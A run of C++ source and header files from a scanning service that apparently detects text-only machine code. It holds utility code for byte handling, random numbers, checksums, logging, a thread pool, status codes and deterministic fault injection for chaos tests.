      if (cursor.consume('}')) break;
      MEL_OBS_TRY(cursor.expect(',', "','"));
    }
  }
  if (!cursor.at_end()) return cursor.error("trailing content");
  for (const HistogramValue& histogram : snapshot.histograms) {
    if (histogram.counts.size() != histogram.upper_bounds.size() + 1) {
      return util::Status::invalid_argument(
          "histogram '" + histogram.name +
          "' counts/le size mismatch (counts must have one overflow slot)");
    }
  }
  return snapshot;
}

std::string trace_to_json(const std::vector<TraceSpan>& spans) {
  std::string out = "{\n  \"spans\": [";
  for (std::size_t i = 0; i < spans.size(); ++i) {
    const TraceSpan& span = spans[i];
    out += i == 0 ? "\n" : ",\n";
    out += "    {\"stage\": ";
    append_json_string(out, stage_name(span.stage));
    out += ", \"start_ns\": ";
    out += std::to_string(span.start_ns);
    out += ", \"end_ns\": ";
    out += std::to_string(span.end_ns);
    out += ", \"duration_ns\": ";
    out += std::to_string(span.duration_ns());
    out += '}';
  }
  out += spans.empty() ? "]\n" : "\n  ]\n";
  out += "}\n";
  return out;
}

#undef MEL_OBS_TRY

}  // namespace mel::obs
