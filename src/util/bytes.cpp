#include "mel/util/bytes.hpp"

#include <array>
#include <cassert>

namespace mel::util {

namespace {
constexpr std::array<char, 16> kHexDigits = {'0', '1', '2', '3', '4', '5',
                                             '6', '7', '8', '9', 'a', 'b',
                                             'c', 'd', 'e', 'f'};

void append_hex_byte(std::string& out, std::uint8_t b) {
  out.push_back(kHexDigits[b >> 4]);
  out.push_back(kHexDigits[b & 0xF]);
}
}  // namespace

bool is_text_buffer(ByteView bytes) noexcept {
  for (std::uint8_t b : bytes) {
    if (!is_text_byte(b)) return false;
  }
  return true;
}

void append_le16(ByteBuffer& out, std::uint16_t value) {
  out.push_back(static_cast<std::uint8_t>(value & 0xFF));
  out.push_back(static_cast<std::uint8_t>(value >> 8));
}

void append_le32(ByteBuffer& out, std::uint32_t value) {
  out.push_back(static_cast<std::uint8_t>(value & 0xFF));
  out.push_back(static_cast<std::uint8_t>((value >> 8) & 0xFF));
  out.push_back(static_cast<std::uint8_t>((value >> 16) & 0xFF));
  out.push_back(static_cast<std::uint8_t>(value >> 24));
}

void append_le64(ByteBuffer& out, std::uint64_t value) {
  append_le32(out, static_cast<std::uint32_t>(value & 0xFFFFFFFFu));
  append_le32(out, static_cast<std::uint32_t>(value >> 32));
}

std::uint16_t load_le16(ByteView bytes, std::size_t offset) {
  assert(bytes.size() >= offset + 2);
  return static_cast<std::uint16_t>(bytes[offset] |
                                    (static_cast<std::uint16_t>(bytes[offset + 1]) << 8));
}

std::uint32_t load_le32(ByteView bytes, std::size_t offset) {
  assert(bytes.size() >= offset + 4);
  return static_cast<std::uint32_t>(bytes[offset]) |
         (static_cast<std::uint32_t>(bytes[offset + 1]) << 8) |
         (static_cast<std::uint32_t>(bytes[offset + 2]) << 16) |
         (static_cast<std::uint32_t>(bytes[offset + 3]) << 24);
}

std::uint64_t load_le64(ByteView bytes, std::size_t offset) {
  assert(bytes.size() >= offset + 8);
  return static_cast<std::uint64_t>(load_le32(bytes, offset)) |
         (static_cast<std::uint64_t>(load_le32(bytes, offset + 4)) << 32);
}

ByteBuffer to_bytes(std::string_view text) {
  return ByteBuffer(text.begin(), text.end());
}

std::string to_printable(ByteView bytes) {
  std::string out;
  out.reserve(bytes.size());
  for (std::uint8_t b : bytes) out.push_back(is_text_byte(b) ? static_cast<char>(b) : '.');
  return out;
}

std::string hexdump(ByteView bytes, std::size_t base_address) {
  std::string out;
  constexpr std::size_t kPerLine = 16;
  for (std::size_t line = 0; line < bytes.size(); line += kPerLine) {
    // Address column.
    std::size_t addr = base_address + line;
    for (int shift = 28; shift >= 0; shift -= 4) {
      out.push_back(kHexDigits[(addr >> shift) & 0xF]);
    }
    out += "  ";
    const std::size_t end = std::min(line + kPerLine, bytes.size());
    for (std::size_t i = line; i < line + kPerLine; ++i) {
      if (i < end) {
        append_hex_byte(out, bytes[i]);
        out.push_back(' ');
      } else {
        out += "   ";
      }
      if (i == line + 7) out.push_back(' ');
    }
    out += " |";
    for (std::size_t i = line; i < end; ++i) {
      out.push_back(is_text_byte(bytes[i]) ? static_cast<char>(bytes[i]) : '.');
    }
    out += "|\n";
  }
  return out;
}

std::string hex_string(ByteView bytes) {
  std::string out;
  out.reserve(bytes.size() * 3);
  for (std::size_t i = 0; i < bytes.size(); ++i) {
    if (i != 0) out.push_back(' ');
    append_hex_byte(out, bytes[i]);
  }
  return out;
}

}  // namespace mel::util
