#include "mel/util/rng.hpp"

namespace mel::util {

namespace {

constexpr std::uint64_t rotl(std::uint64_t x, int k) noexcept {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

std::uint64_t splitmix64_next(std::uint64_t& state) noexcept {
  state += 0x9E3779B97F4A7C15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

Xoshiro256::Xoshiro256(std::uint64_t seed) noexcept {
  std::uint64_t sm = seed;
  for (auto& word : state_) word = splitmix64_next(sm);
  // All-zero state is invalid for xoshiro; SplitMix64 cannot produce four
  // zero outputs in a row from any seed, so no further check is needed.
}

Xoshiro256::result_type Xoshiro256::operator()() noexcept {
  const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
  const std::uint64_t t = state_[1] << 17;
  state_[2] ^= state_[0];
  state_[3] ^= state_[1];
  state_[1] ^= state_[2];
  state_[0] ^= state_[3];
  state_[2] ^= t;
  state_[3] = rotl(state_[3], 45);
  return result;
}

double Xoshiro256::next_double() noexcept {
  // 53 high bits -> [0, 1) with full double precision.
  return static_cast<double>((*this)() >> 11) * 0x1.0p-53;
}

std::uint64_t Xoshiro256::next_below(std::uint64_t bound) noexcept {
  // Lemire's method: multiply-shift with rejection to remove modulo bias.
  std::uint64_t x = (*this)();
  unsigned __int128 m = static_cast<unsigned __int128>(x) * bound;
  auto low = static_cast<std::uint64_t>(m);
  if (low < bound) {
    const std::uint64_t threshold = -bound % bound;
    while (low < threshold) {
      x = (*this)();
      m = static_cast<unsigned __int128>(x) * bound;
      low = static_cast<std::uint64_t>(m);
    }
  }
  return static_cast<std::uint64_t>(m >> 64);
}

std::int64_t Xoshiro256::next_in(std::int64_t lo, std::int64_t hi) noexcept {
  const auto span = static_cast<std::uint64_t>(hi - lo) + 1;
  return lo + static_cast<std::int64_t>(next_below(span));
}

bool Xoshiro256::next_bernoulli(double p) noexcept {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  return next_double() < p;
}

void Xoshiro256::jump() noexcept {
  static constexpr std::uint64_t kJump[] = {
      0x180EC6D33CFD0ABAULL, 0xD5A61266F0C9392CULL, 0xA9582618E03FC9AAULL,
      0x39ABDC4529B1661CULL};
  std::array<std::uint64_t, 4> s{};
  for (std::uint64_t jump_word : kJump) {
    for (int b = 0; b < 64; ++b) {
      if (jump_word & (1ULL << b)) {
        for (std::size_t i = 0; i < 4; ++i) s[i] ^= state_[i];
      }
      (void)(*this)();
    }
  }
  state_ = s;
}

Xoshiro256 Xoshiro256::split() noexcept {
  // The child keeps the current position; the parent jumps 2^128 steps
  // ahead, so the two streams never overlap.
  Xoshiro256 child = *this;
  jump();
  return child;
}

}  // namespace mel::util
