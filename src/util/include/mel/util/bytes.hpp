#pragma once
// Byte-level helpers shared across the disassembler, encoders and traffic
// generators: the keyboard-enterable ("text") byte domain from the paper,
// little-endian packing, and debugging dumps.

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

namespace mel::util {

using ByteBuffer = std::vector<std::uint8_t>;
using ByteView = std::span<const std::uint8_t>;

/// The paper's text domain: keyboard-enterable bytes, 0x20 through 0x7E.
inline constexpr std::uint8_t kTextLow = 0x20;
inline constexpr std::uint8_t kTextHigh = 0x7E;
inline constexpr int kTextDomainSize = kTextHigh - kTextLow + 1;  // 95

/// True when b lies in the keyboard-enterable range 0x20..0x7E.
[[nodiscard]] constexpr bool is_text_byte(std::uint8_t b) noexcept {
  return b >= kTextLow && b <= kTextHigh;
}

/// True when every byte of the buffer is keyboard-enterable.
[[nodiscard]] bool is_text_buffer(ByteView bytes) noexcept;

/// True for the alphanumeric subset [0-9A-Za-z] used by rix-style encoders.
[[nodiscard]] constexpr bool is_alnum_byte(std::uint8_t b) noexcept {
  return (b >= '0' && b <= '9') || (b >= 'A' && b <= 'Z') ||
         (b >= 'a' && b <= 'z');
}

/// Little-endian stores (IA-32 immediates and displacements; 64-bit for
/// wire-frame and snapshot fields).
void append_le16(ByteBuffer& out, std::uint16_t value);
void append_le32(ByteBuffer& out, std::uint32_t value);
void append_le64(ByteBuffer& out, std::uint64_t value);

/// Little-endian loads. Precondition: bytes.size() >= offset + width.
[[nodiscard]] std::uint16_t load_le16(ByteView bytes, std::size_t offset);
[[nodiscard]] std::uint32_t load_le32(ByteView bytes, std::size_t offset);
[[nodiscard]] std::uint64_t load_le64(ByteView bytes, std::size_t offset);

/// Converts a string literal / payload to a byte buffer (no NUL added).
[[nodiscard]] ByteBuffer to_bytes(std::string_view text);

/// Renders bytes as printable ASCII, substituting '.' for non-text bytes.
[[nodiscard]] std::string to_printable(ByteView bytes);

/// Classic 16-bytes-per-line hex dump with an ASCII gutter.
[[nodiscard]] std::string hexdump(ByteView bytes, std::size_t base_address = 0);

/// "41 42 43" style compact hex rendering of a short byte run.
[[nodiscard]] std::string hex_string(ByteView bytes);

}  // namespace mel::util
