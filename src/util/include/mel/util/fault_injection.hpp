#pragma once
// Deterministic fault injection for chaos testing the scan service.
//
// Injection points are compiled in under the MEL_FAULT_INJECTION CMake
// option (default ON; a disarmed point costs one relaxed atomic load).
// Firing is fully deterministic: each point is armed with a counter
// trigger (fire after N evaluations, then every K-th) or a seeded
// probability trigger (SplitMix64 stream, same seed => same firing
// pattern), so a chaos test failure replays exactly.
//
// Points:
//   kAllocFailure    - buffering paths simulate allocation failure; the
//                      service maps it to kResourceExhausted.
//   kClockSkew       - the scan clock jumps forward at scan entry; an
//                      armed deadline trips before any work is done.
//   kTruncatedWindow - the window handed to the detector is cut short,
//                      modeling partial reads; the service must flag the
//                      verdict degraded.
//   kEngineStall     - the MEL engine burns wall-clock at a decode
//                      checkpoint (the scan clock advances by the
//                      configured jump), tripping mid-scan deadlines.
//   kFsWriteFailure  - a persistence write() reports failure; the writer
//                      must surface a typed Status, never a torn file
//                      visible at the final path.
//   kFsShortWrite    - a persistence write() persists only a prefix,
//                      modeling ENOSPC/partial I/O; restore must reject
//                      the truncated file.
//   kFsRenameFailure - the atomic publish rename() fails, modeling a
//                      crash between temp-file and rename; the previous
//                      snapshot must remain restorable.
//   kFsSyncFailure   - fsync() reports failure (dying disk); the writer
//                      must report it instead of claiming durability.
//   kSockReadShort   - a socket read() delivers at most sock_byte_limit()
//                      bytes even when more are buffered (slow peer,
//                      fragmented delivery). The reader must reassemble.
//   kSockReadEAgain  - a socket read() reports EAGAIN although the fd was
//                      polled readable (spurious readiness / EAGAIN
//                      storm). The event loop must re-poll, not spin or
//                      treat it as an error.
//   kSockReadReset   - a socket read() reports ECONNRESET (peer RST).
//                      The connection must be torn down cleanly.
//   kSockWriteShort  - a socket write() accepts at most sock_byte_limit()
//                      bytes (tiny send windows). Combined with
//                      kSockWriteReset this produces torn frames at a
//                      chosen byte offset on the peer's decode path.
//   kSockWriteEAgain - a socket write() reports EAGAIN although polled
//                      writable; fired persistently this is a write
//                      stall, which must shed (deadline) rather than
//                      block a shard thread.
//   kSockWriteReset  - a socket write() reports EPIPE (peer vanished
//                      mid-response).
//   kSockAcceptFailure - accept() reports EMFILE (fd exhaustion); the
//                      acceptor must keep serving existing connections
//                      and retry later.
//   kShardStall      - a server shard wedges inside a scan (the handler
//                      parks until the supervisor condemns the shard),
//                      modeling a pathological payload that never
//                      returns. The supervisor must detect the deadline
//                      overrun, condemn the shard, and rebuild it.
//   kShardHeartbeatLoss - a server shard thread dies at the top of its
//                      event loop without cleanup (crash model); its
//                      heartbeats stop. The supervisor must detect the
//                      missed beats and rebuild the shard.
//   kShardRebuildFailure - a condemned shard's rebuild fails before the
//                      replacement stack is constructed; the supervisor
//                      must count the failure and retry on a later tick,
//                      never serve through a half-built shard.
//
// The kSock* points fire inside the util::fault socket wrappers
// (fault_socket.hpp) that src/net routes every connection-socket
// syscall through; the server's wake pipes stay raw so chaos cannot
// break the waking machinery itself.
//
// All scan-path deadline checks read fault::now() (steady clock plus the
// injected skew) so the injected time and real time stay on one axis.
//
// Thread-safety contract: should_fire(), fire_count(), advance_clock(),
// clock_skew() and now() are safe to call from any number of scan threads
// concurrently (all state is atomic; probability triggers advance their
// SplitMix64 stream with an atomic fetch-add so every evaluation draws a
// distinct value). arm()/disarm()/reset() are test-harness setup APIs:
// they must not race with in-flight evaluations of the same point —
// arm before the scans start, reset after they join.
//
// Determinism under concurrency: with a ScanScope active on the
// evaluating thread (the scan tiers install one per payload, keyed by
// the payload's batch index), every firing decision is a pure function
// of (trigger, scope sequence, evaluation index within the scope) — a
// SplitMix64 hash of the trigger seed and the sequence — so the firing
// pattern is bit-identical at any worker count and any interleaving,
// for counter triggers with ANY fire_every and for probability
// triggers alike. Without a scope (legacy direct calls), counter and
// probability triggers advance shared global streams and the pattern
// follows the evaluation interleaving. max_fires remains a best-effort
// global bound either way: it can be overshot by one per racing thread.

#include <chrono>
#include <cstdint>

namespace mel::util::fault {

enum class Point : std::uint8_t {
  kAllocFailure = 0,
  kClockSkew,
  kTruncatedWindow,
  kEngineStall,
  kFsWriteFailure,
  kFsShortWrite,
  kFsRenameFailure,
  kFsSyncFailure,
  kSockReadShort,
  kSockReadEAgain,
  kSockReadReset,
  kSockWriteShort,
  kSockWriteEAgain,
  kSockWriteReset,
  kSockAcceptFailure,
  kShardStall,
  kShardHeartbeatLoss,
  kShardRebuildFailure,
};
inline constexpr int kPointCount = 18;

/// Firing rule for one injection point. With probability == 0 the rule is
/// a pure counter: skip the first `start_after` evaluations, then fire
/// every `fire_every`-th one. With probability > 0 each evaluation past
/// `start_after` fires with that probability from a SplitMix64 stream
/// seeded by `seed` (deterministic per seed).
struct Trigger {
  std::uint64_t start_after = 0;
  std::uint64_t fire_every = 1;
  std::uint64_t max_fires = ~std::uint64_t{0};
  double probability = 0.0;
  std::uint64_t seed = 0;
};

/// RAII: pins this thread's fault evaluation to the deterministic
/// per-item stream `sequence` (see the determinism note above). While
/// active, counter triggers select *items*: the point fires on every
/// evaluation within items where `sequence >= start_after` and
/// `(sequence - start_after) % fire_every == 0` (so fire_every = 1
/// keeps its fire-on-every-evaluation meaning), and probability
/// triggers draw from a SplitMix64 stream seeded by hashing
/// (trigger.seed, sequence), one value per evaluation. Scopes nest
/// (the previous scope is restored on destruction) and are
/// thread-local: scopes on other threads are unaffected.

#if defined(MEL_FAULT_INJECTION)

inline constexpr bool kCompiledIn = true;

class ScanScope {
 public:
  explicit ScanScope(std::uint64_t sequence) noexcept;
  ~ScanScope() noexcept;
  ScanScope(const ScanScope&) = delete;
  ScanScope& operator=(const ScanScope&) = delete;

 private:
  std::uint64_t saved_sequence_;
  std::uint64_t saved_evals_[24];  ///< >= kPointCount; kept POD for noexcept.
  bool saved_active_;
};

/// Whether the calling thread currently has a ScanScope installed.
[[nodiscard]] bool scope_active() noexcept;

/// Arms `point` with `trigger`; replaces any previous trigger and resets
/// its evaluation/fire counters.
void arm(Point point, const Trigger& trigger) noexcept;
void disarm(Point point) noexcept;
/// Disarms every point and clears the injected clock skew. Chaos tests
/// call this in their fixture teardown.
void reset() noexcept;

/// Evaluates `point`'s trigger. False when the point is disarmed.
[[nodiscard]] bool should_fire(Point point) noexcept;
/// How often `point` has fired since it was armed.
[[nodiscard]] std::uint64_t fire_count(Point point) noexcept;

/// Nanoseconds the scan clock jumps when kClockSkew or kEngineStall fire.
void set_time_jump(std::chrono::nanoseconds jump) noexcept;
[[nodiscard]] std::chrono::nanoseconds time_jump() noexcept;

/// Advances the scan clock by `by` (what a firing stall/skew point does).
void advance_clock(std::chrono::nanoseconds by) noexcept;
[[nodiscard]] std::chrono::nanoseconds clock_skew() noexcept;

/// The scan clock: steady_clock::now() plus injected skew.
[[nodiscard]] std::chrono::steady_clock::time_point now() noexcept;

/// Byte cap applied when kSockReadShort / kSockWriteShort fire: the
/// wrapped syscall transfers at most this many bytes. Combined with a
/// one-shot short-write trigger this tears a frame at a chosen byte
/// offset. Minimum 1; reset() restores the default of 1.
void set_sock_byte_limit(std::size_t limit) noexcept;
[[nodiscard]] std::size_t sock_byte_limit() noexcept;

#else  // !MEL_FAULT_INJECTION — every hook collapses to a no-op.

inline constexpr bool kCompiledIn = false;

class ScanScope {
 public:
  explicit ScanScope(std::uint64_t) noexcept {}
};

[[nodiscard]] inline bool scope_active() noexcept { return false; }

inline void arm(Point, const Trigger&) noexcept {}
inline void disarm(Point) noexcept {}
inline void reset() noexcept {}
[[nodiscard]] inline bool should_fire(Point) noexcept { return false; }
[[nodiscard]] inline std::uint64_t fire_count(Point) noexcept { return 0; }
inline void set_time_jump(std::chrono::nanoseconds) noexcept {}
[[nodiscard]] inline std::chrono::nanoseconds time_jump() noexcept {
  return std::chrono::nanoseconds{0};
}
inline void advance_clock(std::chrono::nanoseconds) noexcept {}
[[nodiscard]] inline std::chrono::nanoseconds clock_skew() noexcept {
  return std::chrono::nanoseconds{0};
}
[[nodiscard]] inline std::chrono::steady_clock::time_point now() noexcept {
  return std::chrono::steady_clock::now();
}
inline void set_sock_byte_limit(std::size_t) noexcept {}
[[nodiscard]] inline std::size_t sock_byte_limit() noexcept { return 1; }

#endif  // MEL_FAULT_INJECTION

}  // namespace mel::util::fault
