#pragma once
// CRC-32C (Castagnoli, polynomial 0x1EDC6F41, reflected 0x82F63B78):
// the checksum guarding the persistence layer's snapshot sections.
// Castagnoli rather than the zip CRC-32 because its error-detection
// properties over short binary records are strictly better and it is
// what modern storage stacks (ext4 metadata, iSCSI, Btrfs) standardize
// on — a snapshot checked here matches what the disk stack expects.
//
// Table-driven software implementation (8 tables, byte-sliced): no SSE4.2
// requirement, deterministic on every host, ~1 GB/s — far faster than the
// snapshots it guards need. Thread-safe: the tables are immutable after
// static initialization and the functions are pure.

#include <cstdint>

#include "mel/util/bytes.hpp"

namespace mel::util {

/// CRC-32C of `bytes`, with the conventional init/final inversion
/// (crc32c of the empty view is 0).
[[nodiscard]] std::uint32_t crc32c(ByteView bytes) noexcept;

/// Streaming form: feed `crc` from a previous call (or 0 to start) to
/// checksum a logical record spread over several buffers.
[[nodiscard]] std::uint32_t crc32c_extend(std::uint32_t crc,
                                          ByteView bytes) noexcept;

}  // namespace mel::util
