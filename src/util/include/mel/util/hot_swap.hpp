#pragma once

#include <memory>
#include <mutex>
#include <utility>

namespace mel::util {

/// Mutex-guarded publication slot for hot-swappable immutable state
/// (serving detectors, calibrated configs): writers `store` a fresh
/// shared_ptr, readers `load` a snapshot and keep their copy for the
/// whole operation, so a swap never invalidates work in flight.
///
/// Deliberately NOT std::atomic<std::shared_ptr>: libstdc++ implements
/// that with an embedded spinlock whose load path unlocks relaxed, so
/// the formal memory model (and therefore TSan) cannot order a reader's
/// access against the next writer's. A plain mutex gives real
/// happens-before edges at negligible cost next to the work each
/// snapshot feeds.
template <typename T>
class HotSwapPtr {
 public:
  HotSwapPtr() = default;
  explicit HotSwapPtr(std::shared_ptr<T> initial)
      : ptr_(std::move(initial)) {}

  HotSwapPtr(const HotSwapPtr&) = delete;
  HotSwapPtr& operator=(const HotSwapPtr&) = delete;

  /// Snapshot the current value; the copy stays valid across any
  /// concurrent store.
  [[nodiscard]] std::shared_ptr<T> load() const {
    std::lock_guard<std::mutex> lock(mutex_);
    return ptr_;
  }

  /// Publish a replacement; in-flight readers keep their snapshots.
  /// The displaced value is released outside the lock so a possibly
  /// expensive destructor never runs under the slot mutex.
  void store(std::shared_ptr<T> next) {
    std::shared_ptr<T> displaced;
    {
      std::lock_guard<std::mutex> lock(mutex_);
      displaced = std::exchange(ptr_, std::move(next));
    }
  }

 private:
  mutable std::mutex mutex_;
  std::shared_ptr<T> ptr_;
};

}  // namespace mel::util
