#pragma once
// Tiny leveled logger for examples and benches. Library code itself stays
// silent; only tools narrate. Thread safety is not required (the whole
// project is single-threaded by design).

#include <iostream>
#include <sstream>
#include <string_view>

namespace mel::util {

enum class LogLevel { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3 };

/// Global minimum level; messages below it are discarded.
LogLevel log_threshold() noexcept;
void set_log_threshold(LogLevel level) noexcept;

void log_line(LogLevel level, std::string_view message);

namespace detail {
template <typename... Args>
void log_fmt(LogLevel level, Args&&... args) {
  if (level < log_threshold()) return;
  std::ostringstream oss;
  (oss << ... << args);
  log_line(level, oss.str());
}
}  // namespace detail

template <typename... Args>
void log_debug(Args&&... args) {
  detail::log_fmt(LogLevel::kDebug, std::forward<Args>(args)...);
}
template <typename... Args>
void log_info(Args&&... args) {
  detail::log_fmt(LogLevel::kInfo, std::forward<Args>(args)...);
}
template <typename... Args>
void log_warn(Args&&... args) {
  detail::log_fmt(LogLevel::kWarn, std::forward<Args>(args)...);
}
template <typename... Args>
void log_error(Args&&... args) {
  detail::log_fmt(LogLevel::kError, std::forward<Args>(args)...);
}

}  // namespace mel::util
