#pragma once
// Tiny leveled logger for the service tiers, examples and benches. Core
// library code stays silent; the service layers narrate degradation and
// rejection events.
//
// Thread-safety contract: every function here may be called from any
// thread concurrently (the parallel batch engine logs from pool workers).
// The threshold is an atomic, and each log line is rendered to one string
// and written under a process-wide mutex, so lines never interleave
// mid-record.

#include <iostream>
#include <sstream>
#include <string>
#include <string_view>

namespace mel::util {

enum class LogLevel { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3 };

/// Renders payload-derived text safe for a terminal/log sink: backslash
/// is doubled, \n/\r/\t become their two-character escapes, and every
/// other byte outside 0x20..0x7E (terminal escape sequences, raw payload
/// bytes, UTF-8 continuation bytes) becomes \xNN. Log records quote
/// attacker-controlled bytes — status messages built from payloads,
/// config parse errors — so an injected ESC ] or \n can never forge a
/// log line or reprogram the operator's terminal.
[[nodiscard]] std::string escape_log_field(std::string_view raw);

/// True when escape_log_field(raw) would change raw (fast pre-check).
[[nodiscard]] bool log_field_needs_escaping(std::string_view raw) noexcept;

/// Global minimum level; messages below it are discarded.
LogLevel log_threshold() noexcept;
void set_log_threshold(LogLevel level) noexcept;

/// Structured context rendered ahead of the message so service-layer
/// events (degradation, budget trips) are attributable in logs:
///   [WARN ] [service scan=42] deadline exceeded ...
struct LogContext {
  std::string_view component;  ///< Subsystem tag, e.g. "service", "stream".
  std::uint64_t scan_id = 0;   ///< 0 = not tied to a particular scan.
};

void log_line(LogLevel level, std::string_view message);
void log_line(LogLevel level, const LogContext& context,
              std::string_view message);

namespace detail {
template <typename... Args>
void log_fmt(LogLevel level, Args&&... args) {
  if (level < log_threshold()) return;
  std::ostringstream oss;
  (oss << ... << args);
  log_line(level, oss.str());
}
template <typename... Args>
void log_fmt_ctx(LogLevel level, const LogContext& context, Args&&... args) {
  if (level < log_threshold()) return;
  std::ostringstream oss;
  (oss << ... << args);
  log_line(level, context, oss.str());
}
}  // namespace detail

template <typename... Args>
void log_debug(Args&&... args) {
  detail::log_fmt(LogLevel::kDebug, std::forward<Args>(args)...);
}
template <typename... Args>
void log_info(Args&&... args) {
  detail::log_fmt(LogLevel::kInfo, std::forward<Args>(args)...);
}
template <typename... Args>
void log_warn(Args&&... args) {
  detail::log_fmt(LogLevel::kWarn, std::forward<Args>(args)...);
}
template <typename... Args>
void log_error(Args&&... args) {
  detail::log_fmt(LogLevel::kError, std::forward<Args>(args)...);
}

/// Context-tagged variants (same semantics, structured prefix).
template <typename... Args>
void log_warn_ctx(const LogContext& context, Args&&... args) {
  detail::log_fmt_ctx(LogLevel::kWarn, context, std::forward<Args>(args)...);
}
template <typename... Args>
void log_info_ctx(const LogContext& context, Args&&... args) {
  detail::log_fmt_ctx(LogLevel::kInfo, context, std::forward<Args>(args)...);
}
template <typename... Args>
void log_error_ctx(const LogContext& context, Args&&... args) {
  detail::log_fmt_ctx(LogLevel::kError, context, std::forward<Args>(args)...);
}

}  // namespace mel::util
