#pragma once
// Minimal Result<T> for recoverable failures (C++20 has no std::expected).
// Used at API boundaries where an input can legitimately be malformed;
// programming errors use assertions instead.

#include <cassert>
#include <string>
#include <utility>
#include <variant>

namespace mel::util {

/// Error payload: a short human-readable reason.
struct Error {
  std::string message;
};

template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : storage_(std::in_place_index<0>, std::move(value)) {}
  Result(Error error) : storage_(std::in_place_index<1>, std::move(error)) {}

  [[nodiscard]] bool ok() const noexcept { return storage_.index() == 0; }
  explicit operator bool() const noexcept { return ok(); }

  [[nodiscard]] const T& value() const& {
    assert(ok());
    return std::get<0>(storage_);
  }
  [[nodiscard]] T& value() & {
    assert(ok());
    return std::get<0>(storage_);
  }
  [[nodiscard]] T&& take() && {
    assert(ok());
    return std::get<0>(std::move(storage_));
  }

  [[nodiscard]] const std::string& error() const {
    assert(!ok());
    return std::get<1>(storage_).message;
  }

 private:
  std::variant<T, Error> storage_;
};

/// Convenience factory: Err("bad header").
[[nodiscard]] inline Error Err(std::string message) {
  return Error{std::move(message)};
}

}  // namespace mel::util
