#pragma once
// Fixed-size worker pool over a bounded MPMC task queue.
//
// The scanning tiers need fan-out without unbounded buffering: a batch
// gateway that queues faster than it scans must feel backpressure, not
// grow a queue until the allocator gives out. The pool therefore has a
// hard queue capacity and two admission modes consistent with the
// service's kResourceExhausted semantics:
//
//   * try_submit() — refuses immediately when the queue is full (the
//     caller maps the refusal to kResourceExhausted and backs off);
//   * submit()     — blocks the producer until a slot frees (bounded
//     memory, unbounded patience).
//
// Thread-safety contract: every public method may be called from any
// thread concurrently. Tasks may not submit to the pool they run on
// while a producer is blocked in submit() at full capacity (the classic
// self-submission deadlock); the scan tiers never do — workers only
// drain.
//
// The destructor drains the queue (every submitted task runs) and joins
// the workers, so a pool can be torn down while results are still being
// aggregated from per-worker shards.

#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

#include "mel/util/status.hpp"

namespace mel::util {

struct ThreadPoolOptions {
  /// Worker threads. 0 = one per hardware thread (at least one).
  std::size_t workers = 0;
  /// Task-queue capacity; admission past it blocks (submit) or refuses
  /// (try_submit). Must be >= 1.
  std::size_t queue_capacity = 256;

  /// kInvalidConfig for a zero queue capacity; OK otherwise.
  [[nodiscard]] Status validate() const;
};

class ThreadPool {
 public:
  using Task = std::function<void()>;

  /// Starts the workers. Out-of-domain options are clamped (capacity 0
  /// becomes 1) — validate ThreadPoolOptions at the config boundary to
  /// reject instead.
  explicit ThreadPool(ThreadPoolOptions options = {});
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  /// Enqueues `task`, blocking while the queue is at capacity.
  void submit(Task task);

  /// Enqueues `task` if a slot is free; returns false (task not consumed
  /// anywhere) when the queue is full.
  [[nodiscard]] bool try_submit(Task task);

  [[nodiscard]] std::size_t worker_count() const noexcept {
    return workers_.size();
  }
  [[nodiscard]] std::size_t queue_capacity() const noexcept {
    return capacity_;
  }
  /// Tasks fully executed since construction (monotone).
  [[nodiscard]] std::uint64_t tasks_completed() const noexcept {
    return tasks_completed_.load(std::memory_order_relaxed);
  }
  /// try_submit() calls refused on a full queue since construction
  /// (monotone). The admission tier's queue-shedding evidence: every
  /// refusal here should pair with a typed kUnavailable/
  /// kResourceExhausted upstream.
  [[nodiscard]] std::uint64_t submissions_refused() const noexcept {
    return submissions_refused_.load(std::memory_order_relaxed);
  }
  /// Tasks currently queued (admitted, not yet claimed by a worker).
  /// Point-in-time: may be stale by the time the caller acts on it —
  /// intended as a load-shedding signal, not for synchronization.
  [[nodiscard]] std::size_t queue_depth() const {
    std::lock_guard<std::mutex> lock(mutex_);
    return queue_.size();
  }

 private:
  void worker_loop();

  std::size_t capacity_;
  mutable std::mutex mutex_;
  std::condition_variable not_empty_;
  std::condition_variable not_full_;
  std::deque<Task> queue_;
  bool stopping_ = false;
  std::atomic<std::uint64_t> tasks_completed_{0};
  std::atomic<std::uint64_t> submissions_refused_{0};
  std::vector<std::thread> workers_;
};

}  // namespace mel::util
