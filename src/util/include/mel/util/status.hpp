#pragma once
// Structured error taxonomy for the scanning service layers.
//
// Status / StatusOr<T> carry a machine-readable StatusCode plus a short
// human-readable message. They are used at construction and scan
// boundaries where an input (config, payload, stream batch) can
// legitimately be malformed or a runtime budget can trip; assert() stays
// reserved for internal invariants that validated inputs cannot violate.
//
// The older Result<T> (result.hpp) remains for message-only parse errors;
// new code that needs typed errors should use Status.

#include <cassert>
#include <chrono>
#include <string>
#include <string_view>
#include <utility>
#include <variant>

namespace mel::util {

enum class StatusCode : std::uint8_t {
  kOk = 0,
  /// A configuration value is out of its documented domain (alpha outside
  /// (0,1), overlap >= window_size, cap smaller than a window, ...).
  kInvalidConfig,
  /// A per-call argument is malformed (not a config problem).
  kInvalidArgument,
  /// The payload exceeds the service's configured maximum scan size.
  kPayloadTooLarge,
  /// The per-scan wall-clock deadline passed before a verdict was reached.
  kDeadlineExceeded,
  /// A memory/buffering limit tripped (stream buffer cap, alloc failure);
  /// the caller should back off and retry with less data.
  kResourceExhausted,
  /// The operation completed on a fallback path with reduced fidelity
  /// (used as a marker code; degraded *verdicts* are still returned as
  /// values, flagged via Verdict::degraded).
  kDegraded,
  /// Invariant violation escaped to a boundary; indicates a bug.
  kInternal,
  /// The service refused the request before doing any work: overload
  /// shedding (admission control), an open circuit breaker, or a
  /// draining/stopped lifecycle state. Retryable by construction; the
